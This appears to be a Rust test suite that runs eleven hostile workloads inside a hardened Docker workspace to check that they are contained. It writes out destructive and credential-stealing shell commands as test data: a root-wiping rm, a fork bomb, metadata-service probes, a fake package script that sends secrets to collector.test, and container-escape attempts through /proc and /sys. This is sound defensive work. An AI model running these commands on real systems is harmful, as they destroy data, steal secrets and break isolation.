//! Eleven ways in which code in a workspace does harm, tried in the Docker shape of the README:
//! each is contained, and agent, proxy and host are there afterwards.

use std::{fs, os::unix::fs::PermissionsExt, path::PathBuf};

use anyhow::{Result, ensure};
use serde_json::{Value, json};
use tempfile::TempDir;
use workspace_tests::{
    agent::text,
    docker::{self, Container, WORKSPACE_BASE, docker},
    http::{Client, Connection, Endpoint},
    origin::Origin,
    proxy::{self, Proxy},
    require, tools,
    wait::eventually,
};

/// In the agent's environment, where an operator should not put it.
const SECRET: &str = "secret-of-the-operator";
/// The proxy in the workspace, for bash.
const PROXY: &str = "/dev/tcp/127.0.0.1/8080";

/// A workspace with limits, a proxy outside, and what must not change on the host.
struct World {
    container: Container,
    proxy: Proxy,
    origin: Origin,
    sockets: TempDir,
    host: TempDir,
}

impl World {
    fn start() -> Result<Self> {
        let (sockets, host) = (tempfile::tempdir()?, tempfile::tempdir()?);
        fs::set_permissions(sockets.path(), fs::Permissions::from_mode(0o1777))?;
        fs::write(host.path().join("precious"), "untouched")?;
        let origin = Origin::saying("a permitted host")?;
        let listen = format!("unix:{},mode=0666", sockets.path().join("proxy.sock").display());
        let setup = proxy::Setup::new()?.allow_local("permitted.test", origin.port());
        let proxy = setup.args(&["--listen", &listen]).start()?;
        let volume = format!("--volume={}:/run/workspace", sockets.path().display());
        let secret = format!("--env=AWS_SECRET_ACCESS_KEY={SECRET}");
        let container = Container::run(&[
            "--network=none",
            "--read-only",
            "--cap-drop=ALL",
            "--security-opt=no-new-privileges",
            "--user=1000:1000",
            "--pids-limit=128",
            "--memory=256m",
            "--memory-swap=256m",
            "--cpus=0.5",
            "--tmpfs=/workspace:uid=1000,gid=1000,mode=0750,size=32m,exec",
            "--tmpfs=/tmp:mode=1777,size=16m",
            &volume,
            &secret,
            WORKSPACE_BASE,
        ])?;
        let world = Self { container, proxy, origin, sockets, host };
        eventually("the agent in the container answers", || {
            world.client().get("/health").ok().filter(|answer| answer.status() == 200).map(drop)
        })
        .map_err(|error| error.context(world.container.logs()))?;
        Ok(world)
    }

    fn endpoint(&self) -> Endpoint {
        let socket: PathBuf = self.sockets.path().join("agent.sock");
        Endpoint::Unix(socket)
    }

    fn client(&self) -> Client {
        Client::new(self.endpoint())
    }

    fn exec(&self, body: &Value) -> Result<Value> {
        self.client().json("POST", "/v1/exec", body)
    }

    fn bash(&self, line: &str) -> Result<String> {
        let reply = self.exec(&json!({ "argv": ["bash", "-c", line], "timeout_ms": 60_000 }))?;
        Ok(format!("{}{}", text(&reply, "stdout")?, text(&reply, "stderr")?))
    }

    /// The answer of the proxy to one request from inside.
    fn through_proxy(&self, url: &str) -> Result<String> {
        let host = url.trim_start_matches("http://").split('/').next().unwrap_or_default();
        self.bash(&format!(
            "exec 3<>{PROXY}; printf 'GET {url} HTTP/1.1\\r\\nHost: {host}\\r\\n\
             Connection: close\\r\\n\\r\\n' >&3; cat <&3"
        ))
    }

    /// Agent, proxy and host work as before.
    fn survives(&self) -> Result<()> {
        assert_eq!(self.client().get("/health")?.status(), 200, "{}", self.container.logs());
        assert_eq!(self.bash("echo works")?, "works\n");
        self.outside_survives()?;
        let url = format!("http://permitted.test:{}/", self.origin.port());
        let answer = self.through_proxy(&url)?;
        ensure!(answer.ends_with("a permitted host"), "{answer}");
        Ok(())
    }

    fn outside_survives(&self) -> Result<()> {
        let restarts = docker(&["inspect", "-f", "{{.State.Running}}", self.container.id()])?;
        assert_eq!(restarts, "true", "{}", self.container.logs());
        assert_eq!(self.proxy.admin.get("/healthz")?.status(), 200);
        assert_eq!(fs::read_to_string(self.host.path().join("precious"))?, "untouched");
        ensure!(self.sockets.path().join("proxy.sock").exists(), "the proxy's socket is gone");
        Ok(())
    }
}

/// A world, or nothing where the images cannot be built here.
fn world() -> Result<Option<World>> {
    match docker::build_images() {
        Ok(()) => World::start().map(Some),
        Err(reason) => {
            tools::report_skip(&reason);
            Ok(None)
        }
    }
}

#[test]
fn deleting_everything_deletes_the_work_and_no_more() -> Result<()> {
    require!(Docker);
    let Some(world) = world()? else { return Ok(()) };
    world.bash("echo work > /workspace/file")?;
    let mut connection = Connection::open(&world.endpoint())?;
    let body = json!({ "shell": "rm -rf --no-preserve-root / 2>/dev/null; ls -A /workspace" });
    connection.send(&world.client().request("POST", "/v1/exec", body.to_string().as_bytes()))?;
    let reply = connection.read_response("POST")?.json()?;
    assert_eq!(reply["stdout"], "", "{reply}");
    // The agent's own socket belongs to the workspace's user and goes, too: those who are connected
    // stay so.
    let body = json!({ "shell": "ls /usr/local/bin" });
    connection.send(&world.client().request("POST", "/v1/exec", body.to_string().as_bytes()))?;
    let reply = connection.read_response("POST")?.json()?;
    assert_eq!(reply["stdout"], "workspace-agent\nworkspace-proxy\n", "{reply}");
    world.outside_survives()
}

#[test]
fn a_full_disk_is_the_workspaces_own() -> Result<()> {
    require!(Docker);
    let Some(world) = world()? else { return Ok(()) };
    let said =
        world.bash("cat /dev/zero > fill; cat /dev/zero > /tmp/fill; cat /dev/zero > /fill")?;
    assert_eq!(said.matches("No space left").count(), 2, "{said}");
    ensure!(said.contains("Read-only file system"), "{said}");
    let refused = world.client().send("PUT", "/v1/files/more", &[0; 65_536])?;
    assert_eq!(refused.problem_code()?, "no_space");
    world.survives()?;
    world.bash("rm fill")?;
    assert_eq!(world.client().send("PUT", "/v1/files/more", &[0; 65_536])?.status(), 201);
    Ok(())
}

#[test]
fn a_fork_bomb_ends_with_its_command() -> Result<()> {
    require!(Docker);
    let Some(world) = world()? else { return Ok(()) };
    let started = json!({ "id": "bomb", "argv": ["bash", "-c", "b() { b & b & wait; }; b"] });
    world.client().json("POST", "/v1/processes", &started)?;
    eventually("the limit of processes is reached", || {
        let output = world.client().get("/v1/processes/bomb/output").ok()?.text();
        output.contains("Resource temporarily unavailable").then_some(())
    })?;
    assert_eq!(world.client().get("/health")?.status(), 200);
    let ended = world.client().json("DELETE", "/v1/processes/bomb?grace_ms=0", &json!({}))?;
    assert_eq!(ended["survivors"], 0, "{ended}");
    world.survives()?;
    let running = "for p in /proc/[0-9]*; do read -r name < $p/comm; echo $name; done";
    assert_eq!(world.bash(running)?, "workspace-agent\nbash\n");
    Ok(())
}

#[test]
fn a_memory_hog_is_killed_and_the_agent_is_not() -> Result<()> {
    require!(Docker);
    let Some(world) = world()? else { return Ok(()) };
    let reply = world.exec(&json!({ "shell": "exec tail /dev/zero" }))?;
    assert_eq!(reply["signal"], "SIGKILL", "{reply}");
    world.survives()
}

#[test]
fn busy_loops_leave_room_for_the_agent_and_end_with_their_command() -> Result<()> {
    require!(Docker);
    let Some(world) = world()? else { return Ok(()) };
    let line = "for i in 1 2 3 4 5 6 7 8; do while :; do :; done & done; echo busy; wait";
    world.client().json("POST", "/v1/processes", &json!({ "id": "busy", "shell": line }))?;
    eventually("the loops run", || {
        let output = world.client().get("/v1/processes/busy/output").ok()?.text();
        output.contains("busy").then_some(())
    })?;
    world.survives()?;
    let ended = world.client().json("DELETE", "/v1/processes/busy", &json!({}))?;
    assert_eq!(ended, json!({ "killed": 9, "survivors": 0 }));
    world.survives()
}

#[test]
fn the_metadata_service_is_reached_on_no_way() -> Result<()> {
    require!(Docker);
    let Some(world) = world()? else { return Ok(()) };
    let said = world.bash("exec 3<>/dev/tcp/169.254.169.254/80 && echo reached")?;
    ensure!(said.contains("Network is unreachable"), "{said}");
    for host in ["169.254.169.254", "[::ffff:a9fe:a9fe]", "2852039166", "metadata.google.internal"]
    {
        let answer = world.through_proxy(&format!("http://{host}/latest/meta-data/"))?;
        ensure!(answer.starts_with("HTTP/1.1 4"), "{host}: {answer}");
    }
    world.survives()
}

/// A package whose installation runs code, as packages may.
const SETUP: &str = r"
env > stolen; cat /etc/passwd /proc/1/environ /run/secrets/*/* >> stolen 2>/dev/null
exec 3<>/dev/tcp/203.0.113.9/443 && echo 'sent directly'
exec 3<>/dev/tcp/127.0.0.1/8080
printf 'POST http://collector.test/ HTTP/1.1\r\nHost: collector.test\r\nContent-Length: 6\r\nConnection: close\r\n\r\nstolen' >&3
head -n 1 <&3
for place in /usr/local/bin/workspace-agent /etc/profile /etc/ld.so.preload /usr/lib/x.so; do
    echo evil > $place && echo \written $place
done
echo 'export EVIL=1' | tee ~/.bashrc ~/.profile /workspace/.bashrc > /dev/null
";

#[test]
fn a_malicious_package_sends_nothing_and_stays_nowhere() -> Result<()> {
    require!(Docker);
    let Some(world) = world()? else { return Ok(()) };
    assert_eq!(world.client().send("PUT", "/v1/files/setup.sh", SETUP.as_bytes())?.status(), 201);
    let said = world.bash("bash setup.sh 2>/dev/null")?;
    assert_eq!(said.trim(), "HTTP/1.1 403 Forbidden (not_allowed)", "{said}");
    world.proxy.audited(|line| line["host"] == "collector.test" && line["status"] == 403)?;
    let stolen = world.client().get("/v1/files/stolen")?.text();
    ensure!(stolen.contains("root:") && !stolen.contains(SECRET), "{stolen}");
    assert_eq!(world.bash("echo \"[$EVIL]\"")?, "[]\n");
    world.survives()
}

#[test]
fn credentials_of_the_agents_environment_are_not_the_commands() -> Result<()> {
    require!(Docker);
    let Some(world) = world()? else { return Ok(()) };
    let all =
        world.bash("env; set; cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\\0' '\\n'")?;
    ensure!(all.contains("HTTP_PROXY=") && !all.contains(SECRET), "{all}");
    let said = world.bash("cat /proc/1/environ")?;
    ensure!(said.contains("Permission denied"), "{said}");
    // What it is about: the agent has it.
    let own = docker(&["inspect", "-f", "{{.Config.Env}}", world.container.id()])?;
    ensure!(own.contains(SECRET), "{own}");
    world.survives()
}

#[test]
fn abuse_of_the_proxys_socket_is_refused_and_the_proxy_serves_on() -> Result<()> {
    require!(Docker);
    let Some(world) = world()? else { return Ok(()) };
    let said = world.bash("rm /run/workspace/proxy.sock; mv /run/workspace/proxy.sock /tmp/p")?;
    assert_eq!(said.matches("Operation not permitted").count(), 2, "{said}");
    let ask = |request: &str| {
        world.bash(&format!("exec 3<>{PROXY}; printf '{request}' >&3; head -n 1 <&3"))
    };
    for (request, status) in [
        ("GET /rules HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n", "404"),
        ("CONNECT 127.0.0.1:22 HTTP/1.1\\r\\nHost: 127.0.0.1:22\\r\\n\\r\\n", "403"),
        ("CONNECT other.test:443 HTTP/1.1\\r\\nHost: other.test:443\\r\\n\\r\\n", "403"),
        ("nonsense\\r\\n\\r\\n", "400"),
    ] {
        let answer = ask(request)?;
        ensure!(answer.starts_with(&format!("HTTP/1.1 {status}")), "{request}: {answer}");
    }
    let large = "printf 'GET / HTTP/1.1\\r\\nX: ' >&3; head -c 10000000 /dev/zero | tr '\\0' x >&3";
    world.bash(&format!("exec 3<>{PROXY}; ({large}) 2>/dev/null; head -n 1 <&3"))?;
    let idle = format!("for i in $(seq 200); do exec {{fd}}<>{PROXY}; done; echo open; read -r");
    let started = json!({ "id": "idle", "argv": ["bash", "-c", idle], "stdin_open": true });
    world.client().json("POST", "/v1/processes", &started)?;
    eventually("all connections are open", || {
        let output = world.client().get("/v1/processes/idle/output").ok()?.text();
        output.contains("open").then_some(())
    })?;
    world.survives()
}

#[test]
fn nobody_gains_privileges_by_a_set_id_file_or_a_capability() -> Result<()> {
    require!(Docker);
    let Some(world) = world()? else { return Ok(()) };
    assert_eq!(world.bash("find / -xdev -perm /6000 -type f 2>/dev/null")?, "");
    let said = world.bash("cp /usr/bin/id . && chmod 6777 id && ./id -u && grep -c '^Cap.*0000000000000000' /proc/self/status")?;
    assert_eq!(said, "1000\n5\n");
    for attempt in [
        "chown 0:0 id",
        "mount -t tmpfs none /tmp",
        "unshare -U true",
        "unshare -n true",
        "chroot / true",
        "mknod disk b 8 0",
        "setpriv --reuid 0 true",
    ] {
        let said = world.bash(&format!("{attempt} && echo succeeded"))?;
        ensure!(!said.contains("succeeded") && !said.is_empty(), "{attempt}: {said}");
    }
    world.survives()
}

#[test]
fn proc_and_sys_are_no_way_out() -> Result<()> {
    require!(Docker);
    let Some(world) = world()? else { return Ok(()) };
    for file in [
        "/proc/sys/kernel/core_pattern",
        "/proc/sys/kernel/modprobe",
        "/proc/sysrq-trigger",
        "/proc/1/oom_score_adj",
        "/proc/1/mem",
        "/sys/kernel/uevent_helper",
        "/sys/fs/cgroup/memory/release_agent",
        "/sys/fs/cgroup/cgroup.procs",
        "/sys/class/net/lo/mtu",
        "/dev/mem",
        "/dev/sda",
    ] {
        let said = world.bash(&format!("(echo 0 > {file}) 2>&1 && echo written"))?;
        ensure!(!said.contains("written") && !said.is_empty(), "{file}: {said}");
    }
    for file in ["/proc/kcore", "/proc/1/root/etc/passwd", "/proc/1/cwd/x", "/proc/1/fd/0"] {
        let said = world.bash(&format!("head -c 1 {file} 2>&1 | wc -c; head -c 1 {file} 2>&1"))?;
        let blocked = ["Permission denied", "No such file", "Operation not permitted"];
        ensure!(
            blocked.iter().any(|reason| said.contains(reason)) || said == "0\n",
            "{file}: {said}"
        );
    }
    let said = world.bash("ls /run/docker.sock /var/run/docker.sock /host")?;
    assert_eq!(said.matches("No such file").count(), 3, "{said}");
    world.survives()
}
